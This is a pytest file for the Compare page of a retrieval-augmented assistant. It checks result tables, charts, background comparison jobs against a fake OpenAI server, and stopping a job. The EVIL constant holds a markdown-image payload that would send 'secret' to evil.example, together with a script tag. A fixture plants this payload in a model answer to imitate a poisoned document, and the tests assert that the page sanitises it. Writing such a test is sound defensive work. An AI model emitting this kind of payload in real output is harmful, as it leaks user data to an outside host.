"""The Compare page through AppTest: a finished comparison (made with fakes) read back — table with intervals,
chart, recommendation, warnings, answers side by side, sanitised — and comparisons run as real background jobs
against the loopback OpenAI server, finished or stopped."""

from __future__ import annotations

import json
import time
from pathlib import Path

import pytest
import streamlit as st
from streamlit.testing.v1 import AppTest

import tests.openai_server as fake_openai
from assistant import jobs
from assistant.config import load_settings
from assistant.evaluation.compare import compare
from assistant.retrieval import Retriever
from assistant.strategies import build_strategy
from ingest.store import KnowledgeStore
from tests.limits import HANG_GUARD_S, QUICK_GUARD_S
from tests.openai_server import KEY
from tests.test_compare import QUESTIONS, Answers, router_kb

PAGE = str(Path(__file__).resolve().parents[1] / "ui" / "views" / "compare.py")
EVIL = "![pixel](https://evil.example/p.png?q=secret) <script>alert(1)</script>"


@pytest.fixture(autouse=True)
def fresh_caches() -> None:
    st.cache_resource.clear()
    st.cache_data.clear()


def page() -> AppTest:
    app = AppTest.from_file(PAGE, default_timeout=HANG_GUARD_S).run()
    assert not app.exception, app.exception
    return app


def wait_for(condition, timeout: float = HANG_GUARD_S, what: str = "") -> None:
    deadline = time.monotonic() + timeout
    while not condition():
        assert time.monotonic() < deadline, f"timed out waiting for {what}"
        time.sleep(0.1)


def eval_lines(pairs=QUESTIONS) -> bytes:
    return "".join(json.dumps({"question": q, "answer": a, "sources": [s]}) + "\n" for q, a, s in pairs).encode()


@pytest.fixture
def finished(isolated_environment: Path, tmp_path: Path) -> Path:
    """A comparison of plain, rag and few-shot made with fakes (as test_compare does), where the data home keeps
    them; one answer is then made hostile, as a poisoned document could make it."""
    settings, embedder, eval_file = router_kb(tmp_path)
    examples = tmp_path / "examples.jsonl"
    examples.write_text(json.dumps({"prompt": QUESTIONS[0][0], "completion": "Two years."}) + "\n")

    def factory(name: str):
        retriever = Retriever(KnowledgeStore(settings).get(settings.collection), embedder, settings.home / "bm25")
        return build_strategy(name, settings, Answers(), examples=examples, retriever=retriever, embedder=embedder)

    out = isolated_environment / "comparisons" / "router"
    compare(settings, eval_file, ["plain", "rag", "few-shot"], out, factory=factory, embedder=embedder,
            examples=examples, progress=False)
    rows = [json.loads(line) for line in (out / "answers.jsonl").read_text().splitlines()]
    rows[0]["answers"]["plain"]["text"] = f"It lasts two years. {EVIL}"
    (out / "answers.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    return out


def test_a_finished_comparison_is_shown_whole(finished: Path) -> None:
    app = page()
    assert app.selectbox(key="cmp_result").value == str(finished)
    [table] = app.dataframe
    assert list(table.value["strategy"]) == ["plain", "rag", "few-shot"]
    assert table.value["token F1"][1].count("[") == 1 and "]" in table.value["token F1"][1]  # mean [low, high]
    [chart] = app.image
    assert chart.proto.imgs and len(app.image) == 1
    assert "rag answers closest to the references" in app.success[0].value
    assert any("also appear in the example bank" in w.value for w in app.warning)
    markdown = [m.value for m in app.markdown]
    assert f"**Question:** {QUESTIONS[0][0]}" in markdown and f"**Reference:** {QUESTIONS[0][1]}" in markdown
    assert {"**plain**", "**rag**", "**few-shot**"} <= set(markdown)
    assert f"{QUESTIONS[0][1]} [1]" in markdown  # rag's answer, with its citation
    [poisoned] = [m for m in markdown if m.startswith("It lasts two years.")]
    assert "evil.example" not in poisoned  # the image would have loaded that URL as soon as it was shown
    assert "[image removed: pixel]" in poisoned and "&lt;script>" in poisoned and "<script>" not in poisoned
    assert any("sources: [1] warranty.md" in c.value for c in app.caption)

    app.selectbox(key=f"cmp_question_{finished.name}").set_value(1).run()
    assert f"**Question:** {QUESTIONS[1][0]}" in [m.value for m in app.markdown]


def test_the_form_offers_the_samples_and_an_example_bank_for_few_shot() -> None:
    app = page()
    assert "No comparisons yet" in app.info[0].value
    assert app.selectbox(key="cmp_eval").value.endswith("knowledge/eval.jsonl")
    assert app.multiselect(key="cmp_strategies").value == ["plain", "rag"]
    assert not [s for s in app.selectbox if s.key == "cmp_examples"]
    app.multiselect(key="cmp_strategies").set_value(["plain", "few-shot"]).run()
    assert app.selectbox(key="cmp_examples").value.endswith("knowledge/examples.jsonl")


@pytest.fixture
def echo_backend(openai_server, monkeypatch: pytest.MonkeyPatch, request):
    """The page and its jobs answer through the loopback server (no local model); `slow` makes each answer take a
    minute."""
    for name, value in {"ASSISTANT_BACKEND": "openai", "ASSISTANT_MODEL": "echo-model", "OPENAI_API_KEY": KEY,
                        "OPENAI_BASE_URL": openai_server.base_url, "ASSISTANT_OPENAI_MAX_RETRIES": "0"}.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setattr(fake_openai, "SLOW_SECONDS", 60.0)
    return openai_server


def start_from_the_page(upload: bytes, limit: int) -> tuple[AppTest, jobs.Job]:
    app = page()
    app.file_uploader(key="cmp_upload").set_value(("../mini eval.jsonl", upload, "application/json")).run()
    app.multiselect(key="cmp_strategies").set_value(["plain"]).run()
    app.number_input(key="cmp_limit").set_value(limit).run()
    next(b for b in app.button if b.label == "Start comparison").click().run()
    assert not app.exception, app.exception
    assert "in the background" in app.success[0].value
    [job] = jobs.list_jobs(load_settings(), "compare")
    return app, job


def test_a_comparison_runs_as_a_background_job_and_its_results_appear(echo_backend, isolated_environment) -> None:
    app, job = start_from_the_page(eval_lines(), limit=2)
    out = isolated_environment / "comparisons" / "mini eval"
    assert job.argv == ["compare", str((isolated_environment / "datasets" / "mini eval.jsonl").resolve()),
                        "--strategies", "plain", "--out", str(out), "--limit", "2"]
    wait_for(lambda: not job.running, what="the comparison")
    assert job.status == "succeeded", job.log_tail()
    assert job.progress() == (2, 2)
    app.run()
    assert any(m.value.endswith("succeeded (exit code 0)") for m in app.markdown)
    assert app.selectbox(key="cmp_result").value == str(out)
    assert list(app.dataframe[0].value["strategy"]) == ["plain"]
    assert f"Echo: {QUESTIONS[0][0]}" in [m.value for m in app.markdown]
    assert KEY not in str(app._tree)


def test_a_running_comparison_can_be_stopped_from_the_page(echo_backend, monkeypatch) -> None:
    monkeypatch.setenv("ASSISTANT_MODEL", "slow-model")
    app, job = start_from_the_page(eval_lines(), limit=3)
    wait_for(lambda: any(r["model"] == "slow-model" for r in echo_backend.requests), what="the first question")
    app.run()
    assert any(m.value.endswith("· running") for m in app.markdown)
    app.button(key=f"stop-{job.id}").click().run()
    assert not app.exception, app.exception
    wait_for(lambda: not job.running, timeout=QUICK_GUARD_S, what="the stop")
    assert job.status == "stopped"
    app.run()
    assert any("stopped" in m.value for m in app.markdown)
    assert "No comparisons yet" in app.info[0].value  # nothing was finished, nothing half-written shown
